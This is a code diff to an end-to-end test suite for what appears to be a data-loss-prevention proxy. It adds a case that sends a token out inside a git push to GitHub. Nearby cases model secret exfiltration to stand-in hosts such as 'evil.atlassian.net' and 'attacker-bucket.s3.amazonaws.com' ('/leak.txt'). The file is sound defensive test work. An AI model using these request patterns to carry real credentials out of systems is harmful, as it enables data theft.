@@ -35,6 +35,7 @@ import h2.connection
 import h2.events
 import pytest
 from support import Request, received_any_form, wrong_checksum
+from test_content import git_receive_pack
 
 from dlproxy.engine.profile import builtin_profile_path, load_profiles
 from e2e.conftest import _Server, proxied_client
@@ -283,6 +284,10 @@ DESTINATIONS = [
     Dest("atlassian-token-in-page-go-escaped", ATL, "evil.atlassian.net",
          json_raw("/wiki/rest/api/content", lambda t: '{"body":{"storage":{"value":"\\u003cp\\u003e' + t
                   + '\\u003c/p\\u003e","representation":"storage"}}}'), basic("me@example.com")),
+    Dest("github-git-push-pack", GH, "github.com",
+         lambda t: Request("POST", "/o/r.git/git-receive-pack",
+                           (("Content-Type", "application/x-git-receive-pack-request"),), git_receive_pack(t)),
+         basic(path="/o/r.git/info/refs?service=git-receive-pack")),
     Dest("aws-key-id-s3-aws-chunked", "aws-access-key-id", "attacker-bucket.s3.amazonaws.com",
          aws_chunked_put("/leak.txt"),
          with_header("Authorization", "AWS4-HMAC-SHA256 Credential={}/20250101/us-east-1/s3/aws4_request, "
